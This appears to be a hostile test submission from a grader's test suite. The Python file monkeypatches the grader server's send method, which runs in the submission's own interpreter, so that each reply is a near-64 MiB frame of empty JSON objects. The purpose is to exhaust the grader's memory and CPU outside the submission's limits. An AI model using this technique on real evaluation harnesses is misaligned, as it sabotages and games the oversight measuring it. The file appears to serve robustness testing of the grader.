"""Hostile Python submission (review), on top of tests/broken/fork_breaks_at_null_l1.patch: the grader's server
(pyserve.py on oracle/serve.py's loop) runs in the submission's interpreter, so the submission replaces how it sends:
every reply is a
frame just under the 64 MiB limit holding about 22 million empty JSON objects, which the grader parses before
it checks any field (about 1.7 GB and seconds of the grader's own CPU per reply, charged to no limit of the
submission's)."""

import os as _os
import sys as _sys

_server = getattr(_sys.modules.get("__main__"), "serve", None)  # oracle/serve.py, whose loop the server runs
if _server is not None and hasattr(_server, "Server"):
    _count = ((64 << 20) - 16) // 3
    _body = b'{"ret":[' + b"{}," * (_count - 1) + b"{}]}"

    def _send(self, reply):
        view = memoryview(len(_body).to_bytes(4, "little") + _body)
        while view:
            view = view[_os.write(self.replies, view):]

    _server.Server.send = _send
